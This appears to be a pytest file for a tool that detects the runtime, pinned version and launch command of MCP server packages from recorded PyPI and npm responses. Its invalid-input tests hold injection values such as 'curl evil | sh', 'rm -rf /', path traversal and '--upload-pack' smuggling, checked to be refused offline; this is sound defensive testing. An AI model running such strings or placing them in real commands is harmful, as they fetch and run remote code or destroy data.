"""Detection end to end on recorded real registry responses: runtime, pinned version, launch, env, errors."""

from __future__ import annotations

import base64
import json
import re
from datetime import datetime, timezone

import pytest

from components.detect import DetectError, DiskCache, detect, detect_many
from components.detect.models import RuntimeSpec
from tests.tools.registry_fakes import NoNetworkSession, RecordedSession

TIME_WHEEL = (
    "69/d4/d16c3771225ea2744a529ffca08bc5394b1cff5ee141d5b2178dd1279d06/mcp_server_time-2026.10.19-py3-none-any.whl"
)


@pytest.fixture
def session():
    return RecordedSession()


pytestmark = pytest.mark.usefixtures("default_indexes")  # fixtures: tests/conftest.py


def run(spec, session, cache, **kwargs) -> RuntimeSpec:
    return detect(spec, session=session, cache=cache, **kwargs)


def test_acceptance_trio_is_python_npm_python_with_console_script_and_bin_launches(session, cache):
    git, memory, time_ = (
        run(s, session, cache) for s in ("mcp-server-git", "@modelcontextprotocol/server-memory", "mcp-server-time")
    )
    assert (git.runtime, memory.runtime, time_.runtime) == ("python", "npm", "python")
    assert (git.launch, memory.launch, time_.launch) == (["mcp-server-git"], ["mcp-server-memory"], ["mcp-server-time"])
    assert git.pinned == "mcp-server-git==2026.10.19"
    assert memory.pinned == "@modelcontextprotocol/server-memory@2026.8.31"
    assert time_.pinned == "mcp-server-time==2026.10.19"


def test_env_follows_the_entrypoint_contract(session, cache):
    env = run("mcp-server-git", session, cache, args=["--repository", "/data"]).env()
    assert env == {
        "MCP_RUNTIME": "python",
        "MCP_PACKAGE": "mcp-server-git==2026.10.19",
        "MCP_LAUNCH": '["mcp-server-git"]',
        "MCP_ARGS": '["--repository", "/data"]',
        # the wheel was uploaded at 06:48:45.43 and the sdist at 06:48:46.77: rounded up past the last file
        "MCP_RESOLVED_AT": "2026-10-19T06:48:47Z",
    }
    npm_env = run("@modelcontextprotocol/server-memory", session, cache).env()
    assert npm_env["MCP_PACKAGE"] == "@modelcontextprotocol/server-memory@2026.8.31"
    assert json.loads(npm_env["MCP_LAUNCH"]) == ["mcp-server-memory"]
    assert "MCP_ARGS" not in npm_env
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", npm_env["MCP_RESOLVED_AT"])


def test_resolved_at_is_never_before_the_release_upload(session, cache):
    result = run("mcp-server-time", session, cache)
    resolved = datetime.fromisoformat(result.env()["MCP_RESOLVED_AT"].replace("Z", "+00:00"))
    assert resolved >= result.resolved_at
    assert result.resolved_at.tzinfo is not None and resolved.tzinfo == timezone.utc


def test_name_on_both_registries_mcp_server_sqlite_is_the_python_reference_server(session, cache):
    result = run("mcp-server-sqlite", session, cache)
    assert (result.runtime, result.launch, result.version) == ("python", ["mcp-server-sqlite"], "2025.4.25")
    assert "on both registries" in result.evidence[0] and "npm mcp-server-sqlite 0.0.2" in result.evidence[0]


def test_name_on_both_registries_mcp_server_kubernetes_is_the_npm_server(session, cache):
    result = run("mcp-server-kubernetes", session, cache)
    assert (result.runtime, result.launch) == ("npm", ["mcp-server-kubernetes"])
    assert result.pinned == "mcp-server-kubernetes@4.1.7"
    assert "pypi mcp-server-kubernetes 0.1.6" in result.evidence[0]


def test_explicit_registry_overrides_detection_for_a_name_on_both(session, cache):
    assert run("pypi:mcp-server-kubernetes", session, cache).pinned == "mcp-server-kubernetes==0.1.6"
    assert run("npm:mcp-server-sqlite", session, cache).pinned == "mcp-server-sqlite@0.0.2"
    assert run("mcp-server-sqlite", session, cache, runtime="npm").runtime == "npm"


def test_console_script_differs_from_project_name_office_word(session, cache):
    result = run("office-word-mcp-server", session, cache)
    assert result.launch == ["word_mcp_server"]
    assert result.env()["MCP_PACKAGE"] == "office-word-mcp-server==1.1.11"


def test_dotted_name_awslabs_resolves_and_launches_its_dotted_script(session, cache):
    result = run("awslabs.aws-documentation-mcp-server", session, cache)
    assert (result.runtime, result.launch) == ("python", ["awslabs.aws-documentation-mcp-server"])
    assert result.pinned == "awslabs.aws-documentation-mcp-server==1.2.3"
    assert any("pypi.org/pypi/awslabs-aws-documentation-mcp-server/json" in url for url in session.calls)


def test_bundled_sdk_playwright_is_npm_without_an_sdk_dependency(session, cache):
    result = run("@playwright/mcp", session, cache)
    assert (result.runtime, result.launch, result.version) == ("npm", ["playwright-mcp"], "0.0.83")
    assert "no MCP SDK dependency" in " ".join(result.evidence)
    assert result.requires_node == ">=18"


def test_python_313_only_release_is_refused_naming_the_release_that_fits(session, cache):
    with pytest.raises(DetectError) as info:
        run("ha-mcp", session, cache)
    message = str(info.value)
    assert "ha-mcp 8.7.0 requires Python <3.15,>=3.13" in message
    assert "image runs Python 3.12" in message and "pypi:ha-mcp==3.5.1" in message
    assert run("pypi:ha-mcp==3.5.1", session, cache).launch == ["ha-mcp"]


def test_removed_npm_package_ticktick_says_it_does_not_exist(session, cache):
    with pytest.raises(DetectError, match=r"@alexarevalo\.ai/mcp-server-ticktick' does not exist .*unpublished"):
        run("@alexarevalo.ai/mcp-server-ticktick", session, cache)


def test_unpublished_npm_name_does_not_count_as_a_candidate(session, cache):
    # npm still holds the name mcp-server-git, with no versions: only PyPI's is installable
    result = run("mcp-server-git", session, cache)
    assert result.evidence[0].startswith("only on PyPI")
    with pytest.raises(DetectError, match="does not exist"):
        run("npm:mcp-server-git", session, cache)


def test_auto_detection_asks_both_registries(session, cache):
    run("mcp-server-time", session, cache)
    assert "https://registry.npmjs.org/mcp-server-time" in session.calls
    assert "https://pypi.org/pypi/mcp-server-time/json" in session.calls


@pytest.mark.parametrize(
    "spec",
    [
        "--index-url=https://evil.example/simple",
        "-e git+https://evil",
        "mcp-server-git; curl evil | sh",
        "pypi:x\x00y",
        "npm:../../etc",
        "a" * 300,
        "npm:Bad_Name",
        "pypi:bad name",
        "github:a/b@--upload-pack=x",
    ],
)
def test_invalid_specs_are_refused_without_any_network_request(spec, cache):
    session = NoNetworkSession()
    with pytest.raises(DetectError):
        detect(spec, session=session, cache=cache)
    assert session.calls == []


def test_invalid_version_and_runtime_are_refused_without_network(cache):
    session = NoNetworkSession()
    for kwargs in (
        {"version": "--pre"},
        {"version": "1.0; rm -rf /"},
        {"runtime": "java"},
        {"runtime": "npm", "version": "not a range!"},
    ):
        with pytest.raises(DetectError):
            detect("mcp-server-git", session=session, cache=cache, **kwargs)
    with pytest.raises(DetectError, match="cannot be a npm package"):
        detect("Office-Word-MCP-Server", session=session, cache=cache, runtime="npm")
    assert session.calls == []


def test_detect_many_keeps_order_and_reports_each_error_separately(session, cache):
    results = detect_many(
        ["mcp-server-time", "a;b", "@modelcontextprotocol/server-memory"], session=session, cache=cache
    )
    assert isinstance(results[0], RuntimeSpec) and results[0].runtime == "python"
    assert isinstance(results[1], DetectError) and "';'" in str(results[1])
    assert isinstance(results[2], RuntimeSpec) and results[2].runtime == "npm"


def test_warm_cache_answers_without_network(session, cache):
    first = [run(s, session, cache) for s in ("mcp-server-git", "@modelcontextprotocol/server-memory")]
    offline = NoNetworkSession()
    again = [detect(s, session=offline, cache=cache) for s in ("mcp-server-git", "@modelcontextprotocol/server-memory")]
    assert again == first and offline.calls == []


def test_expired_version_list_is_fetched_again_but_release_facts_stay_cached(session, tmp_path):
    cache = DiskCache(tmp_path, ttl=0)
    run("mcp-server-git", session, cache)
    session.calls.clear()
    run("mcp-server-git", session, cache)
    assert "https://pypi.org/pypi/mcp-server-git/json" in session.calls
    assert not any(url.endswith(".whl") for url in session.calls)


def test_wheel_is_read_with_range_requests(session, cache):
    run("mcp-server-git", session, cache)
    wheel_calls = [u for u in session.calls if u.endswith(".whl")]
    assert len(wheel_calls) == 1  # the tail holds the whole (slim) wheel: one 64 KiB range


def test_wheel_is_read_whole_when_the_server_ignores_range(cache):
    session = RecordedSession(ranges=False)
    assert detect("office-word-mcp-server", session=session, cache=cache).launch == ["word_mcp_server"]


def test_version_argument_pins_an_older_release(session, cache):
    result = run("mcp-server-sqlite", session, cache, runtime="python", version="2025.4.25")
    assert result.pinned == "mcp-server-sqlite==2025.4.25"
    npm = run("@modelcontextprotocol/server-memory", session, cache, version="^2025.11")
    assert npm.version.startswith("2025.11") or npm.version.startswith("2025.12")


def test_missing_version_lists_recent_ones(session, cache):
    with pytest.raises(DetectError, match=r"no release 9\.9\.9 \(latest: .*2026\.10\.19"):
        run("pypi:mcp-server-git==9.9.9", session, cache)
    with pytest.raises(DetectError, match="no version of npm package @modelcontextprotocol/server-memory matches"):
        run("@modelcontextprotocol/server-memory@^1999", session, cache)


def test_conflicting_versions_in_spec_and_config_are_refused(session, cache):
    with pytest.raises(DetectError, match="give it once"):
        run("pypi:mcp-server-git==2026.10.19", session, cache, version="2025.1.14")


def _mirror_page(session: RecordedSession, accept: str) -> bytes:
    entry = next(e for e in session.recordings["https://pypi.org/simple/mcp-server-time/"] if e.get("accept") == accept)
    return base64.b64decode(entry["body_b64"])


@pytest.mark.parametrize("accept", ["application/vnd.pypi.simple.v1+json", "text/html"])
def test_configured_mirror_with_relative_file_urls(monkeypatch, session, cache, accept):
    """PIP_INDEX_URL is honoured; its Simple API page (JSON or HTML) links files relatively."""
    monkeypatch.setenv("PIP_INDEX_URL", "https://mirror.example/pypi/simple")
    page = _mirror_page(session, accept).decode()
    page = page.replace("https://files.pythonhosted.org/packages/", "../../packages/")
    page = page.replace("https://pypi.org/packages/packages/", "../../packages/")
    content_type = "application/vnd.pypi.simple.v1+json" if "json" in accept else "text/html"
    session.add("https://mirror.example/pypi/simple/mcp-server-time/", 200, page, {"Content-Type": content_type})
    wheel = session.recordings[f"https://pypi.org/packages/packages/{TIME_WHEEL}"][0]
    mirrored = f"https://mirror.example/pypi/packages/{TIME_WHEEL}"
    session.add(mirrored, 200, base64.b64decode(wheel["body_b64"]))
    result = detect("pypi:mcp-server-time", session=session, cache=cache)
    assert result.registry == "https://mirror.example/pypi/simple/"
    assert result.launch == ["mcp-server-time"]
    assert mirrored in session.calls
    assert not any(url.startswith("https://pypi.org/pypi/") for url in session.calls)


def test_npm_registry_from_env_is_used(monkeypatch, session, cache):
    monkeypatch.setenv("NPM_CONFIG_REGISTRY", "https://npm.mirror.example/repo")
    recorded = session.recordings["https://registry.npmjs.org/@modelcontextprotocol%2Fserver-memory"][0]
    session.add(
        "https://npm.mirror.example/repo/@modelcontextprotocol%2Fserver-memory",
        200,
        json.dumps(recorded["body"]),
        {"Content-Type": "application/json"},
    )
    result = detect("@modelcontextprotocol/server-memory", session=session, cache=cache)
    assert result.registry == "https://npm.mirror.example/repo/"
    assert result.launch == ["mcp-server-memory"]


def test_custom_command_needs_no_registry():
    result = detect("python server.py --port 1", runtime="custom", session=NoNetworkSession())
    assert result.env() == {"MCP_RUNTIME": "custom", "MCP_COMMAND": "python server.py --port 1"}
    with pytest.raises(DetectError, match="without a shell"):
        detect("python server.py | tee log", runtime="custom", session=NoNetworkSession())


def test_credentials_in_a_mirror_url_never_reach_messages_or_results(monkeypatch, session, cache):
    monkeypatch.setenv("PIP_INDEX_URL", "https://alice:s3cr3t-token@mirror.example/simple")
    session.add("https://alice:s3cr3t-token@mirror.example/simple/nothing-here/", 404, "not found")
    with pytest.raises(DetectError) as info:
        detect("pypi:nothing-here", session=session, cache=cache)
    assert "s3cr3t-token" not in str(info.value) and "https://***@mirror.example/simple/" in str(info.value)
    page = _mirror_page(session, "application/vnd.pypi.simple.v1+json").decode()
    session.add(
        "https://alice:s3cr3t-token@mirror.example/simple/mcp-server-time/",
        200,
        page,
        {"Content-Type": "application/vnd.pypi.simple.v1+json"},
    )
    wheel = session.recordings[f"https://pypi.org/packages/packages/{TIME_WHEEL}"][0]
    session.add(f"https://files.pythonhosted.org/packages/{TIME_WHEEL}", 200, base64.b64decode(wheel["body_b64"]))
    result = detect("pypi:mcp-server-time", session=session, cache=cache)
    assert result.launch == ["mcp-server-time"]
    assert "s3cr3t-token" not in result.model_dump_json()


def test_stack_servers_are_detected_with_their_runtime_version_and_args(session, cache):
    from components.config import ServerConfig

    servers = [
        ServerConfig(name="sqlite", package="mcp-server-sqlite", runtime="npm", args=["--db", "/data/x.db"]),
        ServerConfig(name="git", package="mcp-server-git", version="2026.10.19"),
        ServerConfig(name="own", command="python -m my_server --stdio"),
        ServerConfig(name="k8s", package="mcp-server-kubernetes", runtime="python", version="9.9"),
    ]
    npm_sqlite, git, own, missing = detect_many(servers, session=session, cache=cache)
    assert npm_sqlite.pinned == "mcp-server-sqlite@0.0.2" and npm_sqlite.args == ["--db", "/data/x.db"]
    assert git.pinned == "mcp-server-git==2026.10.19"
    assert own.env() == {"MCP_RUNTIME": "custom", "MCP_COMMAND": "python -m my_server --stdio"}
    assert isinstance(missing, DetectError) and "no release 9.9" in str(missing)
